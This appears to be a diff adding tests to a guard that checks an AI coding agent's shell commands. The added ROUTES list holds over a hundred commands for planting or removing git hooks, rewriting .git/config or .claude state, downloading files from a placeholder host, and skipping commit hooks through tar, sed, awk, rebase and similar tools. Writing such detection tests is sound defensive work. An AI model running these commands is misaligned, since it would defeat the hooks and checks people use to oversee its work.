@@ -116,6 +116,131 @@ const BYPASS_CLASSES = [
   '(( y = 1 << 3 ))\ngit commit -n -m x',
 ];
 
+/**
+ * Every route into a protected path, counted per command word: a target folder (IS or HOLDS git's
+ * hooks, .git, .claude), output and extraction flags in all their spellings, paths after cd/pushd/popd/env -C
+ * and git -C, git config's subcommand form, and the commands git, tar, flock and script run for themselves.
+ */
+const ROUTES = [
+  'cp evil .git/hooks/',
+  'cp evil .git/hooks',
+  'cp x .git',
+  'install -m755 f .git/hooks',
+  'cp -t .git/hooks f',
+  'cp --target-directory=.git/hooks f',
+  'mv f .git/hooks',
+  'ln f .git/hooks',
+  'ln -s /tmp/x .git/hooks/',
+  'curl -o .git/hooks/pre-commit https://x',
+  'curl --output .git/hooks/pre-commit https://x',
+  'curl -o.git/hooks/pre-commit https://x',
+  'curl --output=.git/config https://x',
+  'wget -O .git/hooks/pre-commit https://x',
+  'wget --output-document=.git/config https://x',
+  'wget -P .git/hooks https://x/pre-commit',
+  'tar -C .git -xf a.tar',
+  'tar --directory=.git/hooks -xf a.tar',
+  'tar -xf a.tar -C .git',
+  'unzip -d .git/hooks a.zip',
+  'unzip a.zip -d .git',
+  'rsync -a hooks/ .git/hooks/',
+  'rsync x .git',
+  'dd of=.git/config if=/tmp/x',
+  'tee -a .git/config',
+  'sed -i s/a/b/ .git/config',
+  'git config set core.hooksPath x',
+  'git config unset core.hooksPath',
+  'git config set alias.x "!sh"',
+  'git config --file .git/config user.name x',
+  'git config -f .git/config user.name x',
+  'git rebase -x "git commit --amend -n" main',
+  'git rebase --exec "rm .git/hooks/pre-commit" main',
+  'git -c alias.x=!cmd x',
+  'cd -P .git && echo x > hooks/pre-commit',
+  'cd -L .git && echo x > config',
+  'pushd .git && echo x > config',
+  'git worktree add .git/hooks main',
+  'git --git-dir=.git config core.hooksPath x',
+  'git --git-dir .git config core.hooksPath x',
+  'cd "$D" && echo x > config',
+  'cd $(echo .git) && echo x > hooks/pre-commit',
+  'F=.git/config; echo x > $F',
+  'echo x > "$D/hooks/pre-commit"',
+  'env -C .git tee config',
+  'env --chdir=.git sh -c \'echo x > config\'',
+  'git -C .git config -f config user.name x',
+  'git --work-tree=.git/hooks checkout HEAD -- pre-commit',
+  'GIT_WORK_TREE=.git/hooks git checkout -- .',
+  'git checkout-index -a --prefix=.git/hooks/',
+  'git config set --all core.hooksPath x',
+  'git config remove-section core',
+  'git config --remove-section core',
+  'git config $K /dev/null',
+  'tar -x --to-command=\'git commit -n -m x\' -f a.tar',
+  'tar -cf .git/hooks/pre-commit x',
+  'tar -xf a.tar .git/hooks/pre-commit',
+  'git submodule foreach \'git commit -n -m x\'',
+  'git bisect run sh -c \'git commit -n -m x\'',
+  'cd .git && curl -O https://x/config',
+  'cd .git/hooks && wget https://x/pre-commit',
+  'scp host:evil .git/hooks/',
+  'cp -r hooks .git',
+  'mv "$X" .',
+  'flock /tmp/l -c \'git commit -n -m x\'',
+  'pushd .git && popd && pushd .git/hooks && echo x > pre-commit',
+  'cp --target=.git/hooks f',
+  'curl -sSLo .git/hooks/pre-commit https://x',
+  'git archive -o .git/hooks/pre-commit HEAD',
+  'git clone https://x/repo .git/hooks/x',
+  'git rebase -ix \'git commit -n\' main',
+  'cd .git && cd /tmp && cd - && echo x > config',
+  'cp -r /tmp/evil/.git .',
+  'rsync -a /tmp/evil/.claude ./',
+  'unzip a.zip .git/config',
+  'wget -e dir_prefix=.git/hooks https://x/y',
+  'curl --output-dir .git/hooks -O https://x/pre-commit',
+  'git format-patch -o .git/hooks HEAD~1',
+  'export F=.git/hooks/pre-commit && cp x $F',
+  'cd ~/proj/.git && echo x > config',
+  'tar -x -I \'sh -c "git commit -n -m x"\' -f a.tar',
+  'tar --checkpoint-action=exec=\'git commit -n -m x\' -xf a.tar',
+  'git filter-branch --tree-filter \'rm -f .git/hooks/pre-commit\' HEAD',
+  'git difftool -x \'git commit -n -m x\' HEAD',
+  'script -c \'git commit -n -m x\' /dev/null',
+  'git config --file "$CFG" a.b c',
+  'git rebase -x "$CMD" main',
+  'install -t .git/hooks pre-commit',
+  'cp x .claude/',
+  'cd "$D" && cp evil .',
+  'cd "$D" && tar xf a.tar',
+  'cd .husky && cp h _/h',
+  'mv x .git/config',
+  'ln -s /tmp/evil .git/hooks/pre-push',
+  'git config set core.fsmonitor ./evil.sh',
+  'git -c core.hooksPath= commit -m x',
+  'curl -o .claude/task-state.json https://x',
+  'wget -O - https://x > .git/config',
+  'gunzip -c x.gz > .git/hooks/pre-commit',
+  'git config rename-section x alias',
+  'git config rename-section core old',
+  'sed -n \'s/x/y/w .git/hooks/pre-commit\' a',
+  'sed \'1e git commit -n -m x\' a',
+  'sed -e \'s/a/b/\' -e \'w .git/config\' f',
+  'awk \'BEGIN{system("git commit -n -m x")}\'',
+  'awk \'{print > ".git/hooks/pre-commit"}\' f',
+  'gunzip .git/config.gz',
+  'gzip -d .git/hooks/pre-commit.gz',
+  'zstd -d x.zst -o .claude/task-state.json',
+  'cd "$HOME/proj/.git" && echo x > config',
+  'TMPDIR=.git; cd $TMPDIR && echo x > config',
+  'git worktree add .git/wt main',
+  'git clone https://github.com/x/y.git .git/y',
+  'git --git-dir=.git --work-tree=. config set alias.c \'!sh\'',
+  'cd .git && git worktree add wt main',
+  'sudo -D .git tee config',
+  'sudo --chdir=.git/hooks cp /tmp/x pre-commit',
+];
+
 const ALLOWED = [
   'git commit -m "mention --no-verify in text"',
   "git commit -m 'the -n flag is bad'",
@@ -175,6 +300,18 @@ describe('the agent guard: whole classes of bypass', () => {
   });
 });
 
+describe('the agent guard: write routes into protected paths', () => {
+  it('has at least 40 of them', () => {
+    expect(ROUTES.length).toBeGreaterThanOrEqual(40);
+  });
+  it.each(ROUTES)('%s', (command) => {
+    const reasons = blockedBy(command);
+    expect(reasons).not.toEqual([]);
+    // Each reason says what to do instead, after the semicolon.
+    for (const reason of reasons) expect(reason).toMatch(/; \S/);
+  });
+});
+
 describe('the agent guard: allowed commands (look-alikes included)', () => {
   it.each(ALLOWED)('%s', (command) => {
     expect(blockedBy(command)).toEqual([]);
@@ -228,5 +365,20 @@ describe('ordinary shell the guard must read without tripping', () => {
   it('what runs inside an assignment or a process substitution is still checked', () => {
     expect(blockedBy('OUT=$(git commit --no-verify -m x)').length).toBeGreaterThan(0);
     expect(blockedBy('cat <(git commit -n -m x)').length).toBeGreaterThan(0);
+  });
+});
+
+describe('symlinks on disk', () => {
+  // As on disk: /repo/h is a link to /repo/.git/hooks, /repo/docs a plain folder.
+  const resolve = (p: string) => (p === '/repo/h' || p.startsWith('/repo/h/') ? p.replace('/repo/h', '/repo/.git/hooks') : p);
+  const through = (command: string) => findingsForAll(parseShell(command), { ...ctx, resolve }).map((f) => f.reason);
+
+  it.each(['echo x > h/pre-commit', 'cp evil h/', 'cp evil h', 'curl -o h/pre-push https://example.com/x', 'cd h && tee pre-commit'])('%s reaches .git/hooks through the link', (command) => {
+    expect(blockedBy(command)).toEqual([]);
+    expect(through(command).join('\n')).toContain('.git/hooks');
+  });
+
+  it.each(['echo x > docs/notes.md', 'cp a.txt docs/', 'cat h/pre-commit'])('%s passes', (command) => {
+    expect(through(command)).toEqual([]);
   });
 });
